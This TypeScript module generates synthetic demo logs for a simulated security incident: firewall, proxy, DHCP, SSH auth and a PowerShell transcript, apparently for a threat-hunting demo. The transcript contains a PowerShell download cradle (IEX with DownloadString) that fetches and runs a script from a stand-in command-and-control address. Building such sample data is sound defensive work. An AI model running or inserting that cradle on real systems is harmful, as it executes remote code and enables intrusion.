// Writes small demo log files whose timestamps are recent (relative to `now`) and agree with the simulated
// tenant's story: the firewall, proxy and DHCP lines for 10.248.240.38 fall in the days its holder had it.
import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import {
  DEMO_BENIGN_IPS,
  DEMO_C2_IP,
  DEMO_HOLDER_EARLIER_IP,
  DEMO_HOLDER_ID,
  DEMO_INTERNAL_IP,
  DEMO_IPV6_IP,
  DEMO_PREVIOUS_HOLDER_ID,
  DEMO_RARE_IPS,
  buildDemoStory,
  type DemoStory,
  type StoryMachine,
  type StoryRow,
} from './story';

const MINUTE = 60_000;
const DAY = 24 * 60 * MINUTE;
const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];

const isoSeconds = (ms: number): string => new Date(ms).toISOString().replace(/\.\d{3}Z$/, 'Z');
/** Syslog's "Mmm dd HH:MM:SS" (no year), in UTC. */
function syslogTime(ms: number): string {
  const d = new Date(ms);
  return `${MONTHS[d.getUTCMonth()] ?? 'Jan'} ${String(d.getUTCDate()).padStart(2, ' ')} ${d.toISOString().slice(11, 19)}`;
}
/** PowerShell transcript times: yyyyMMddHHmmss. */
const transcriptTime = (ms: number): string => new Date(ms).toISOString().replace(/[-:T]/g, '').slice(0, 14);
const macColons = (mac: string): string => mac.toLowerCase().replace(/(..)(?!$)/g, '$1:');
const shortName = (m: StoryMachine): string => m.computerDnsName.split('.')[0] ?? m.computerDnsName;

/** Up to `n` items spread evenly over `items`. */
function spread<T>(items: T[], n: number): T[] {
  if (items.length <= n) return items;
  return Array.from({ length: n }, (_, i) => items[Math.floor((i * items.length) / n)]);
}

function eventsTo(story: DemoStory, remoteIp: string, filter: (e: StoryRow) => boolean = () => true): StoryRow[] {
  return (story.eventsByIp.get(remoteIp) ?? []).filter((e) => e.RemoteIP === remoteIp && filter(e));
}

function firewallLog(story: DemoStory): string {
  const lines: { t: number; text: string }[] = [];
  const add = (e: StoryRow, action: string): void => {
    const proto = String(e.Protocol).toUpperCase();
    const local = `${String(e.LocalIP)}:${String(e.LocalPort)}`;
    const remote = `${String(e.RemoteIP)}:${String(e.RemotePort)}`;
    const inbound = e.ActionType === 'InboundConnectionAccepted';
    const [src, dst] = inbound ? [remote, local] : [local, remote];
    lines.push({ t: e.Timestamp as number, text: `${isoSeconds(e.Timestamp as number)} fw-edge-01 ${action} ${proto} ${src} -> ${dst} bytes=${1200 + ((e.ReportId as number) % 4000)}` });
  };
  const recent = story.anchor - 10 * DAY;
  for (const e of spread(eventsTo(story, DEMO_C2_IP, (x) => x.DeviceId === DEMO_HOLDER_ID), 12)) add(e, 'ALLOW');
  for (const e of eventsTo(story, DEMO_C2_IP, (x) => x.DeviceId === DEMO_PREVIOUS_HOLDER_ID).slice(0, 2)) add(e, 'ALLOW');
  for (const e of spread(eventsTo(story, DEMO_BENIGN_IPS.dnsGoogle, (x) => (x.Timestamp as number) > recent), 6)) add(e, 'ALLOW');
  for (const e of spread(eventsTo(story, DEMO_BENIGN_IPS.cdn, (x) => (x.Timestamp as number) > recent), 6)) add(e, 'ALLOW');
  for (const e of eventsTo(story, DEMO_RARE_IPS.scanner)) add(e, 'DENY');
  for (const e of eventsTo(story, DEMO_RARE_IPS.exfiltration)) add(e, 'ALLOW');
  for (const e of eventsTo(story, DEMO_IPV6_IP).slice(0, 2)) add(e, 'ALLOW');
  lines.sort((a, b) => a.t - b.t);
  return `${lines.map((l) => l.text).join('\n')}\n`;
}

function proxyLog(story: DemoStory): string {
  const lines: { t: number; text: string }[] = [];
  const add = (e: StoryRow, user: string): void => {
    const t = e.Timestamp as number;
    const host = String(e.RemoteUrl || e.RemoteIP);
    const status = e.ActionType === 'ConnectionFailed' ? 'TCP_MISS/503' : 'TCP_TUNNEL/200';
    lines.push({ t, text: `${(t / 1000).toFixed(3)} ${String(120 + ((e.ReportId as number) % 900)).padStart(6)} ${String(e.LocalIP)} ${status} ${2048 + ((e.ReportId as number) % 9000)} CONNECT ${host}:${String(e.RemotePort)} ${user} HIER_DIRECT/${String(e.RemoteIP)} -` });
  };
  for (const e of spread(eventsTo(story, DEMO_C2_IP, (x) => x.DeviceId === DEMO_HOLDER_ID && x.RemotePort !== 80), 10)) add(e, 'jdoe');
  for (const e of spread(eventsTo(story, DEMO_BENIGN_IPS.cdn, (x) => (x.Timestamp as number) > story.anchor - 7 * DAY), 8)) add(e, String(e.InitiatingProcessAccountName));
  for (const e of eventsTo(story, DEMO_RARE_IPS.exfiltration)) add(e, 'pnovak');
  lines.sort((a, b) => a.t - b.t);
  return `${lines.map((l) => l.text).join('\n')}\n`;
}

function dhcpLog(story: DemoStory): string {
  const lines: { t: number; text: string }[] = [];
  const from = story.anchor - 30 * DAY;
  const isDemo = (machineId: string): boolean => machineId === DEMO_HOLDER_ID || machineId === DEMO_PREVIOUS_HOLDER_ID;
  // The two machines of the story, plus the dozen most recent other leases as background.
  const background = story.leases.filter((l) => !isDemo(l.machineId) && l.from > story.anchor - 3 * DAY && l.from <= story.anchor).slice(-12);
  for (const lease of [...story.leases.filter((l) => isDemo(l.machineId) && l.from >= from), ...background]) {
    const m = story.machineById.get(lease.machineId);
    if (!m) continue;
    const mac = macColons(m.macAddress);
    const name = shortName(m);
    const t = lease.from;
    lines.push(
      { t, text: `${syslogTime(t)} dhcp-01 dhcpd[812]: DHCPDISCOVER from ${mac} (${name}) via eth1` },
      { t: t + 1000, text: `${syslogTime(t + 1000)} dhcp-01 dhcpd[812]: DHCPOFFER on ${lease.ip} to ${mac} (${name}) via eth1` },
      { t: t + 2000, text: `${syslogTime(t + 2000)} dhcp-01 dhcpd[812]: DHCPREQUEST for ${lease.ip} (10.20.0.30) from ${mac} (${name}) via eth1` },
      { t: t + 3000, text: `${syslogTime(t + 3000)} dhcp-01 dhcpd[812]: DHCPACK on ${lease.ip} to ${mac} (${name}) via eth1` },
    );
    if (lease.ip === DEMO_INTERNAL_IP) {
      // Daily renewals while the address is held.
      for (let r = t + DAY; r < Math.min(lease.to, story.anchor); r += DAY) {
        lines.push({ t: r, text: `${syslogTime(r)} dhcp-01 dhcpd[812]: DHCPREQUEST for ${lease.ip} from ${mac} (${name}) via eth1` });
        lines.push({ t: r + 1000, text: `${syslogTime(r + 1000)} dhcp-01 dhcpd[812]: DHCPACK on ${lease.ip} to ${mac} (${name}) via eth1` });
      }
      if (lease.to < story.anchor) lines.push({ t: lease.to - 60_000, text: `${syslogTime(lease.to - 60_000)} dhcp-01 dhcpd[812]: DHCPRELEASE of ${lease.ip} from ${mac} (${name}) via eth1 (found)` });
    }
  }
  lines.sort((a, b) => a.t - b.t);
  return `${lines.map((l) => l.text).join('\n')}\n`;
}

function authLog(story: DemoStory): string {
  const lines: { t: number; text: string }[] = [];
  let pid = 2310;
  const host = 'lnx-build-03';
  const add = (t: number, text: string): void => {
    lines.push({ t, text: `${syslogTime(t)} ${host} sshd[${pid}]: ${text}` });
  };
  for (const e of eventsTo(story, DEMO_RARE_IPS.scanner)) {
    const t = e.Timestamp as number;
    add(t, `Invalid user admin from ${DEMO_RARE_IPS.scanner} port ${String(e.RemotePort)}`);
    add(t + 2000, `Failed password for invalid user admin from ${DEMO_RARE_IPS.scanner} port ${String(e.RemotePort)} ssh2`);
    pid++;
  }
  const holderBeacons = eventsTo(story, DEMO_C2_IP, (x) => x.DeviceId === DEMO_HOLDER_ID);
  for (const e of spread(holderBeacons, 3)) {
    const t = (e.Timestamp as number) + 4 * MINUTE;
    add(t, `Accepted publickey for deploy from ${DEMO_INTERNAL_IP} port ${String(e.LocalPort)} ssh2: ED25519 SHA256:q3x9VfG8m2cQ0y3k2b1pL0sZ7aW4eN6rT5uI8oP1dA`);
    add(t + 1000, `pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)`);
    pid++;
  }
  const c2 = eventsTo(story, DEMO_C2_IP, (x) => x.InitiatingProcessFileName === 'curl')[0];
  if (c2) {
    add((c2.Timestamp as number) - 30_000, `Connection closed by ${DEMO_C2_IP} port 40022 [preauth]`);
    pid++;
  }
  const earlier = story.leases.find((l) => l.ip === DEMO_HOLDER_EARLIER_IP);
  if (earlier) {
    const t = Math.max(earlier.from, story.anchor - 12 * DAY) + 9 * 60 * MINUTE;
    add(t, `Accepted password for jdoe from ${DEMO_HOLDER_EARLIER_IP} port 52110 ssh2`);
  }
  lines.sort((a, b) => a.t - b.t);
  return `${lines.map((l) => l.text).join('\n')}\n`;
}

function powershellTranscript(story: DemoStory): string {
  const cradle = eventsTo(story, DEMO_C2_IP, (x) => x.DeviceId === DEMO_HOLDER_ID)[0];
  const start = cradle ? (cradle.Timestamp as number) - 2 * MINUTE : story.anchor - 6 * DAY;
  const end = start + 7 * MINUTE;
  return [
    '**********************',
    'Windows PowerShell transcript start',
    `Start time: ${transcriptTime(start)}`,
    'Username: CONTOSO\\jdoe',
    'RunAs User: CONTOSO\\jdoe',
    'Configuration Name: ',
    'Machine: FIN-WS-017 (Microsoft Windows NT 10.0.22631.0)',
    'Host Application: C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    'Process ID: 6120',
    'PSVersion: 5.1.22621.4249',
    '**********************',
    'PS C:\\Users\\jdoe> Resolve-DnsName cdn-update.contoso-sync.example',
    '',
    'Name                             Type   TTL   Section    IPAddress',
    '----                             ----   ---   -------    ---------',
    `cdn-update.contoso-sync.example  A      300   Answer     ${DEMO_C2_IP}`,
    '',
    `PS C:\\Users\\jdoe> Test-NetConnection ${DEMO_C2_IP} -Port 443`,
    '',
    `ComputerName     : ${DEMO_C2_IP}`,
    `RemoteAddress    : ${DEMO_C2_IP}`,
    'RemotePort       : 443',
    'InterfaceAlias   : Ethernet',
    `SourceAddress    : ${DEMO_INTERNAL_IP}`,
    'TcpTestSucceeded : True',
    '',
    `PS C:\\Users\\jdoe> IEX (New-Object Net.WebClient).DownloadString('http://${DEMO_C2_IP}/a.ps1')`,
    `PS C:\\Users\\jdoe> # Analyst note: block hxxp://${DEMO_C2_IP.replace(/\.(\d+)$/, '[.]$1')}/a.ps1 at the proxy; DNS via ${DEMO_BENIGN_IPS.dnsCloudflare} is fine.`,
    '**********************',
    'Windows PowerShell transcript end',
    `End time: ${transcriptTime(end)}`,
    '**********************',
    '',
  ].join('\n');
}

/**
 * Writes the demo logs into `dir` (created if needed) and returns their paths. The story is the default
 * one anchored at `now`, so a simulator started soon after (within a couple of days) agrees with them.
 */
export async function writeDemoSamples(dir: string, now: Date): Promise<string[]> {
  if (Number.isNaN(now.getTime())) throw new RangeError('writeDemoSamples needs a valid date');
  const story = buildDemoStory({ now: now.getTime() });
  await mkdir(dir, { recursive: true });
  const files: [string, string][] = [
    ['firewall.log', firewallLog(story)],
    ['proxy-access.log', proxyLog(story)],
    ['dhcpd.log', dhcpLog(story)],
    ['auth.log', authLog(story)],
    ['powershell-transcript.txt', powershellTranscript(story)],
  ];
  const paths: string[] = [];
  for (const [name, text] of files) {
    const path = join(dir, name);
    await writeFile(path, text, 'utf8');
    paths.push(path);
  }
  return paths;
}
